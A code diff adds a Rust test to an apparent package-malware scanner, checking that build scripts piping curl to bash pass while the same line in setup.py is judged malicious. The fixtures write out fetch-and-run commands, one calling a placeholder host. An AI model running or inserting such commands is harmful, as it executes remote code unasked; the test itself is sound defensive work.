@@ -80,3 +80,27 @@ fn pth_exec_of_a_plain_literal_is_judged_by_its_code() {
     )]);
     assert!(!with_rule(&r, "pth-exec").is_empty(), "{:#?}", r.findings);
 }
+
+/// gcsfs, numpy, pillow, pymongo, pyarrow: CI and build scripts shipped in the sdist fetch
+/// toolchains with `curl ... | bash` or download an installer and run it. Nothing in the
+/// package starts them.
+#[test]
+fn standalone_build_script_that_pipes_curl_to_bash_is_not_flagged() {
+    let r = sdist(&[
+        (
+            "ci/install.sh",
+            "#!/bin/bash\nset -e\ncurl -fsSL https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash\n",
+        ),
+        (
+            "depends/install_lib.sh",
+            "#!/bin/bash\nwget -O installer.sh https://example.org/installer.sh\nbash installer.sh -b\n",
+        ),
+    ]);
+    assert_clean(&r);
+    // The same line in setup.py runs unasked at install.
+    let r = sdist(&[(
+        "setup.py",
+        "import os\nos.system('curl -fsSL https://x.invalid/p.sh | bash')\n",
+    )]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
